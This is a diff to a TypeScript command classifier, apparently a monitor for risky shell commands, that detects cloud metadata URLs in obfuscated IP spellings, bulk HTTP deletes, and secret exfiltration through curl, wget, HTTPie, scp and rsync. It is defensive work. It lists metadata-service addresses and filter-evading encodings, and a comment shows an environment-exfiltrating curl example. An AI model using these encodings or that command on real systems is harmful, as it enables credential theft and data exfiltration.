@@ -2,11 +2,67 @@ import { hasFlag, optionValue, optionValues, positionals } from '../argv.ts';
 import type { Invocation, Stream } from '../context.ts';
 import { emit } from '../context.ts';
 import { classifyPath, normalizePath } from '../paths.ts';
+import { commandHook } from './hooks.ts';
 import { checkWriteTarget } from './targets.ts';
 import type { Handler } from './types.ts';
 
 const METADATA =
   /(169\.254\.169\.254|metadata\.google\.internal|169\.254\.170\.2|fd00:ec2::254|100\.100\.100\.200)/;
+/** Metadata services by address, compared after the host is normalised to dotted decimal. */
+const METADATA_ADDRESSES = new Set(['169.254.169.254', '169.254.170.2', '100.100.100.200']);
+
+/** The host of a URL-like argument (`http://h:80/x`, `h/x`, `[::1]:80`), lower-cased. */
+function hostOf(value: string): string | undefined {
+  const m = value.match(/^(?:[a-z][a-z0-9+.-]*:\/\/)?(?:[^@/?#]*@)?(\[[^\]]*\]|[^/:?#]+)/i);
+  return m?.[1]?.toLowerCase();
+}
+
+/**
+ * An IPv4 address written any way `inet_aton` accepts it — `2852039166`, `0xa9fea9fe`,
+ * `0251.0376.0251.0376`, `169.254.43518` — or mapped into IPv6 (`[::ffff:a9fe:a9fe]`), as
+ * dotted decimal. Undefined when the host is a name.
+ */
+function ipv4Of(host: string): string | undefined {
+  const mapped = host.match(/^\[(?:0*:)*:?ffff:(.+)\]$/);
+  if (mapped) {
+    const rest = mapped[1] as string;
+    const hex = rest.match(/^([0-9a-f]{1,4}):([0-9a-f]{1,4})$/);
+    if (hex)
+      return dotted(Number.parseInt(hex[1] as string, 16) * 65536 + Number.parseInt(hex[2] as string, 16));
+    return ipv4Of(rest);
+  }
+  const parts = host.split('.');
+  if (parts.length > 4 || parts.some((p) => !/^(0x[0-9a-f]+|0[0-7]*|[1-9][0-9]*)$/.test(p))) return undefined;
+  const numbers = parts.map((p) =>
+    p.startsWith('0x') ? Number.parseInt(p, 16) : p.startsWith('0') ? Number.parseInt(p, 8) : Number(p),
+  );
+  const last = numbers.pop() as number;
+  if (numbers.some((n) => n > 255) || last >= 2 ** (8 * (4 - numbers.length))) return undefined;
+  const value = numbers.reduce((acc, n, i) => acc + n * 2 ** (8 * (3 - i)), 0) + last;
+  return dotted(value);
+}
+
+function dotted(value: number): string {
+  return [24, 16, 8, 0].map((shift) => Math.floor(value / 2 ** shift) % 256).join('.');
+}
+
+/** Whether a URL points at a cloud metadata service, however its address is spelled. */
+function isMetadataUrl(value: string): boolean {
+  if (METADATA.test(value)) return true;
+  const host = hostOf(value);
+  const address = host === undefined ? undefined : ipv4Of(host);
+  return address !== undefined && METADATA_ADDRESSES.has(address);
+}
+
+/**
+ * A request that deletes many resources at once: an HTTP DELETE of a wildcard or `_all`
+ * (`DELETE /logs-2024.*`), or a delete-by-query endpoint (Elasticsearch, OpenSearch).
+ */
+function bulkDelete(method: string, urls: readonly string[]): boolean {
+  const paths = urls.map((u) => u.replace(/^[a-z][a-z0-9+.-]*:\/\/[^/]*/i, '').split('?')[0] ?? '');
+  if (paths.some((p) => /\/_delete_by_query\/?$/.test(p))) return true;
+  return method === 'DELETE' && paths.some((p) => /\*|(^|\/)_all(\/|$)/.test(p));
+}
 const CURL_VALUED = [
   '-o',
   '--output',
@@ -82,7 +138,7 @@ const curl: Handler = (inv) => {
   const s = inv.session;
   const urls = positionals(inv.argv, CURL_VALUED);
   const detail = `${inv.name} ${inv.argv.join(' ')}`;
-  if (urls.some((u) => METADATA.test(u)) || inv.argv.some((a) => METADATA.test(a)))
+  if (urls.some(isMetadataUrl) || inv.argv.some((a) => METADATA.test(a)))
     emit(s, 'shell.credential.metadata', detail);
   const uploads = [
     ...optionValues(
@@ -108,13 +164,18 @@ const curl: Handler = (inv) => {
     (a) =>
       /^(-d|--data.*|-F|--form.*|--json|-T|--upload-file)$/.test(a.split('=')[0] ?? '') || /^-[dFT]./.test(a),
   );
-  if (
+  const secret = inv.args.flatMap((w) => w.streams).find((stream) => stream.kind === 'sensitive');
+  if (secret?.kind === 'sensitive')
+    // `curl "https://x/?d=$(env | base64)"`: the secrets travel in the request itself.
+    emit(s, 'shell.exfiltration.sensitive', `${secret.what} sent by curl`);
+  else if (
     urls.some((u) => /\$\(|`/.test(u)) ||
     inv.args.some((w) => w.streams.length > 0 && !w.value.startsWith('-'))
   ) {
     emit(s, 'shell.exfiltration.in-url', detail);
   }
-  if (method === 'DELETE') emit(s, 'shell.net.delete', detail);
+  if (bulkDelete(method, urls)) emit(s, 'shell.net.delete-bulk', detail);
+  else if (method === 'DELETE') emit(s, 'shell.net.delete', detail);
   else if (sendsData || /^(POST|PUT|PATCH)$/.test(method)) {
     if (uploads.length === 0) emit(s, 'shell.net.send', detail);
   }
@@ -163,7 +224,7 @@ const wget: Handler = (inv) => {
     '-e',
     '--execute',
   ]);
-  if (urls.some((u) => METADATA.test(u))) emit(s, 'shell.credential.metadata', detail);
+  if (urls.some(isMetadataUrl)) emit(s, 'shell.credential.metadata', detail);
   for (const file of optionValues(inv.argv, '--post-file', '--body-file')) {
     if (sensitiveUpload(file)) emit(s, 'shell.exfiltration.sensitive', `${file} uploaded by wget`);
     else emit(s, 'shell.net.send', `wget uploads ${file}`);
@@ -222,7 +283,15 @@ const telnet: Handler = (inv) => {
 };
 
 /** scp/rsync: copying to a remote host sends local data off the machine. */
+/** rsync's remote shell (`-e`, `--rsh`) and scp's (`-S`) run on this machine; ssh is what they are for. */
+function remoteShellHooks(inv: Invocation) {
+  const options = inv.name === 'scp' ? ['-S'] : ['-e', '--rsh'];
+  for (const text of optionValues(inv.argv, ...options))
+    commandHook(inv.session, inv.scope, text, `${inv.name} ${options[0]}`, /^(ssh|plink|rsh)$/);
+}
+
 const copyRemote: Handler = (inv) => {
+  remoteShellHooks(inv);
   const operands = positionals(inv.argv, [
     '-P',
     '-p',
@@ -272,15 +341,17 @@ const ftp: Handler = (inv) => {
 
 /** HTTPie: `http [METHOD] URL [items]`. */
 const httpie: Handler = (inv) => {
-  const [first = ''] = positionals(inv.argv, ['-a', '--auth', '-o', '--output', '--session']);
+  const [first = '', second = ''] = positionals(inv.argv, ['-a', '--auth', '-o', '--output', '--session']);
+  const url = /^[A-Z]+$/.test(first) ? second : first;
   const method = /^[A-Z]+$/.test(first)
     ? first
     : inv.argv.some((a) => /[^:=]=|:=|@/.test(a) && !a.startsWith('-'))
       ? 'POST'
       : 'GET';
   const detail = `${inv.name} ${inv.argv.join(' ')}`;
-  if (inv.argv.some((a) => METADATA.test(a))) emit(inv.session, 'shell.credential.metadata', detail);
-  if (method === 'DELETE') emit(inv.session, 'shell.net.delete', detail);
+  if (inv.argv.some(isMetadataUrl)) emit(inv.session, 'shell.credential.metadata', detail);
+  if (bulkDelete(method, [url])) emit(inv.session, 'shell.net.delete-bulk', detail);
+  else if (method === 'DELETE') emit(inv.session, 'shell.net.delete', detail);
   else if (method !== 'GET' && method !== 'HEAD' && method !== 'OPTIONS')
     emit(inv.session, 'shell.net.send', detail);
   return { kind: 'remote', from: first };
